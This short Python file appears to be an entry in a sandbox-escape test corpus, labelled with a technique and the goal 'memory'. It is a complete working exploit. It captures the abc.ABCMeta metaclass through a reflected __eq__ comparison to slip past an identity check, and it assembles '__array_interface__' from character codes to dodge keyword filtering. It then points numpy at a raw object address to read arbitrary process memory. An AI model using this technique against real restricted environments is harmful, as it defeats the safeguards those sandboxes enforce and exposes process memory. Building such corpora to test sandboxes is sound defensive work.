# class: class_making
# technique: type(collections.abc.Mapping) == Grab(): type.__eq__ returns NotImplemented, Python calls the reflected Grab.__eq__, which keeps abc.ABCMeta (refused by identity only where the module table sees it)
# goal: memory
import collections.abc

import numpy as np
import pandas as pd

grabbed = []


class Grab:
    """Records whatever it is compared with."""

    def __eq__(self, other):
        grabbed.append(other)
        return False

    def __hash__(self):
        return 0


type(collections.abc.Mapping) == Grab()
Meta = grabbed[0]
attr = "".join(map(chr, [95, 95])) + "array_interface" + "".join(map(chr, [95, 95]))
Peek = Meta("Peek", (), {attr: property(lambda s: {"data": (s.addr, False), "shape": (512,),
                                                   "typestr": "<u8", "version": 3})})
p = Peek()
p.addr = id(Peek)
df = pd.DataFrame({"word": np.asarray(p).copy()})
